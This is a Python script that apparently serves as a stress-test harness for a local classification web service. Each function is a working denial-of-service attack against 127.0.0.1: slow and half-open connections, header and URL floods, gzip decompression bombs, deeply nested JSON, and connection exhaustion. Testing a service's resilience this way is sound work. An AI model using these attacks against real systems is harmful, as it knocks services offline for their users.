"""Attacks on a service, each as a program of its own: ``attacker.py NAME PORT SECONDS KEY``.

What an attack keeps open is opened again as soon as it is closed, until the time is up.
"""

from __future__ import annotations

import gzip
import json
import socket
import sys
import threading
import time
from collections.abc import Callable

HOST = b"Host: x\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"
JSON = b"Content-Type: application/json\r\n"


class Attack:
    """Where the service is, for how long, and a key of the attacker's own where one is needed."""

    def __init__(self, port: int, seconds: float, key: str) -> None:
        self.port, self.end = port, time.monotonic() + seconds
        self.auth = b"Authorization: Bearer %s\r\n" % key.encode()

    @property
    def on(self) -> bool:
        return time.monotonic() < self.end

    def open(self, *said: bytes, read: bool = False, patience: float = 0.5) -> socket.socket | None:
        """Open a connection, say what is to be said, read an answer; None if it was refused."""
        try:
            one = socket.create_connection(("127.0.0.1", self.port), timeout=patience)
            for part in said:
                one.sendall(part)
                if read:
                    one.recv(4_096)
                    read = False
        except OSError:
            return None
        return one

    def hold(
        self, many: int, opened: Callable[[], socket.socket | None], drip: bytes = b"", every: float = 1.0
    ) -> None:
        """Keep so many connections open, saying a little on each now and then."""
        held = list[socket.socket]()
        dripped = time.monotonic()
        while self.on:
            while len(held) < many and self.on:
                if (one := opened()) is not None:
                    held.append(one)
            if drip and time.monotonic() > dripped + every:
                dripped = time.monotonic()
                for one in held:
                    _try(one.sendall, drip)
            held = [one for one in held if _open(one)]
            threading.Event().wait(0.05)
        for one in held:
            one.close()

    def flood(self, head: bytes, part: bytes, most: int, tail: bytes = b"") -> None:
        """Send a head and then so many parts, on one connection after the other."""
        while self.on:
            if (one := self.open(head, patience=5)) is None:
                continue
            with one:
                for _ in range(most):
                    if not self.on or not _try(one.sendall, part):
                        break
                else:
                    _try(one.sendall, tail)
                    _try(one.recv, 4_096)

    def in_threads(self, many: int, work: Callable[[], None]) -> None:
        threads = [threading.Thread(target=work) for _ in range(many)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()


def half_open(attack: Attack) -> None:
    attack.hold(1_000, lambda: attack.open(b"GET /healthz HTTP/1.1\r\n" + HOST + b"\r\n", b"\r\n", read=True))


def unfinished(attack: Attack) -> None:
    head = b"POST /v1/classify HTTP/1.1\r\n" + HOST + JSON + b"Content-Length: 10000000000\r\n\r\n"
    attack.hold(1_000, lambda: attack.open(head, b"{", read=True), drip=b"{")


def slow_heads(attack: Attack) -> None:
    attack.hold(1_000, lambda: attack.open(b"GET /healthz HTTP/1.1\r\nHo"), drip=b"o", every=3)


def fields(attack: Attack) -> None:
    attack.flood(b"GET /healthz HTTP/1.1\r\n" + HOST, b"a:b\r\n" * 20_000, 200, b"\r\n")


def long_fields(attack: Attack) -> None:
    attack.in_threads(3, lambda: attack.flood(b"GET /healthz HTTP/1.1\r\n" + HOST + b"a: ", b"x" * 100_000, 400))


def urls(attack: Attack) -> None:
    attack.flood(b"GET /", b"x" * 100_000, 400, b" HTTP/1.1\r\n" + HOST + b"\r\n")


def trailers(attack: Attack) -> None:
    head = b"POST /v1/classify HTTP/1.1\r\n" + HOST + CHUNKED + b"\r\n1\r\na\r\n0\r\n"
    attack.in_threads(2, lambda: attack.flood(head, b"ab: cd\r\n" * 12_500, 1_000))


def bodies(attack: Attack) -> None:
    """A few kilobytes of gzip that are large when inflated, and then a byte now and then, on a path that is open."""
    packed = gzip.compress(b" " * 3_990_000)
    head = b"POST /healthz HTTP/1.1\r\n" + HOST + JSON + b"Content-Encoding: gzip\r\n" + CHUNKED + b"\r\n"
    chunk = b"%x\r\n%s\r\n" % (len(packed), packed)
    attack.hold(300, lambda: attack.open(head, chunk), drip=b"1\r\na\r\n")


def keyed_bodies(attack: Attack) -> None:
    """The same on a path that takes a body, and with a key; as large as passes for text."""
    text = b'{"text": "' + b" ".join(b"%d words" % n for n in range(290_000))
    packed = gzip.compress(text[:3_990_000])
    head = b"POST /v1/classify HTTP/1.1\r\n" + HOST + attack.auth + JSON + b"Content-Encoding: gzip\r\n" + CHUNKED
    chunk = b"\r\n%x\r\n%s\r\n" % (len(packed), packed)
    attack.hold(300, lambda: attack.open(head, chunk), drip=b"1\r\na\r\n")


def nested(attack: Attack) -> None:
    """Ten kilobytes of gzip that are millions of lists, as bodies and as the lines of streams."""
    lists = b"[" + b",".join([b"[" * 13 + b"]" * 13] * 140_000) + b"]"
    empty = b"[" + b",".join([b"[]"] * 1_300_000) + b"]"
    head = HOST + attack.auth + JSON + b"Content-Encoding: gzip\r\n"

    def once() -> None:
        while attack.on:
            for body in packed:
                said = b"POST /v1/classify HTTP/1.1\r\n" + head + b"Content-Length: %d\r\n\r\n" % len(body) + body
                if (one := attack.open(said, read=True, patience=60)) is not None:
                    one.close()

    def stream() -> None:
        chunk = b"%x\r\n%s\r\n" % (len(lines), lines)
        while attack.on:
            one = attack.open(b"POST /v1/classify/stream HTTP/1.1\r\n" + head + CHUNKED + b"\r\n", patience=5)
            while one is not None and attack.on and _try(one.sendall, chunk):
                _try(one.recv, 65_536)

    lines = gzip.compress((lists + b"\n") * 10)
    packed = [gzip.compress(lists), gzip.compress(empty), gzip.compress(b'["' + b'","'.join([b""] * 1_300_000) + b'"]')]
    threading.Thread(target=lambda: attack.in_threads(2, stream)).start()
    attack.in_threads(6, once)


def large(attack: Attack) -> None:
    """Bodies that are as large as may be, and harmless in shape: one long text that is too long for an article."""
    body = b'{"text": "' + b"\\n\\u00e9 word" * 300_000 + b'"}'
    head = b"POST /v1/classify HTTP/1.1\r\n" + HOST + attack.auth + JSON + b"Content-Length: %d\r\n\r\n" % len(body)

    def once() -> None:
        while attack.on:
            if (one := attack.open(head, body, read=True, patience=60)) is not None:
                one.close()

    attack.in_threads(4, once)


def streams(attack: Attack) -> None:
    """Thirty streams of one key, each with articles without end."""
    line = json.dumps({"text": "WORK 20 " + "word " * 300}).encode() + b"\n"
    head = b"POST /v1/classify/stream HTTP/1.1\r\n" + HOST + attack.auth + CHUNKED + b"\r\n"

    def once() -> None:
        while attack.on:
            if (one := attack.open(head, patience=1)) is None:
                continue
            reader = threading.Thread(target=_drain, args=(one,))
            reader.start()
            while attack.on and _try(one.sendall, b"%x\r\n%s\r\n" % (len(line), line)):
                pass
            _try(one.shutdown, socket.SHUT_RDWR)
            reader.join()
            one.close()

    attack.in_threads(30, once)


def many_calls(attack: Attack) -> None:
    """As many calls of one key as it has places, all the time."""
    body = json.dumps({"text": "WORK 20 " + "word " * 300}).encode()
    head = b"POST /v1/classify HTTP/1.1\r\n" + HOST + attack.auth + JSON + b"Content-Length: %d\r\n\r\n" % len(body)

    def once() -> None:
        while attack.on:
            if (one := attack.open(head, body, read=True, patience=60)) is not None:
                one.close()

    attack.in_threads(300, once)


def long_work(attack: Attack) -> None:
    """Articles that take hours, whose sender goes after a second."""
    body = json.dumps({"text": "WORK 10000000"}).encode()
    head = b"POST /v1/classify HTTP/1.1\r\n" + HOST + attack.auth + JSON + b"Content-Length: %d\r\n\r\n" % len(body)
    while attack.on:
        if (one := attack.open(head, body)) is not None:
            threading.Event().wait(1)
            one.close()


def blank_lines(attack: Attack) -> None:
    """Streams of nothing but line ends, a hundred times as many as bytes are sent."""
    packed = gzip.compress(b"\n" * 3_000_000)
    head = b"POST /v1/classify/stream HTTP/1.1\r\n" + HOST + attack.auth + b"Content-Encoding: gzip\r\n" + CHUNKED
    attack.in_threads(8, lambda: attack.flood(head + b"\r\n", b"%x\r\n%s\r\n" % (len(packed), packed), 100))


def unread(attack: Attack) -> None:
    """Large pages that are asked for and never read."""
    said = b"GET /static-offline-docs/swagger-ui-bundle.js HTTP/1.1\r\n" + HOST + b"\r\n"

    def opened() -> socket.socket | None:
        one = socket.socket()
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
        one.settimeout(0.5)
        return one if _try(one.connect, ("127.0.0.1", attack.port)) and _try(one.sendall, said) else None

    attack.hold(300, opened)


def _open(one: socket.socket) -> bool:
    """Tell whether the other end has not closed, after reading a little of what it says."""
    one.settimeout(0)
    try:
        return one.recv(1, socket.MSG_PEEK) != b"" or one.recv(4_096) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        one.settimeout(0.5)


def _try(what: Callable[..., object], *given: object) -> bool:
    try:
        what(*given)
    except OSError:
        return False
    return True


def _drain(one: socket.socket) -> None:
    while True:
        try:
            if not one.recv(65_536):
                return
        except TimeoutError:
            continue
        except OSError:
            return


ATTACKS = {
    one.__name__: one
    for one in (
        half_open,
        unfinished,
        slow_heads,
        fields,
        long_fields,
        urls,
        trailers,
        bodies,
        keyed_bodies,
        nested,
        large,
        streams,
        many_calls,
        long_work,
        blank_lines,
        unread,
    )
}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](Attack(int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]))
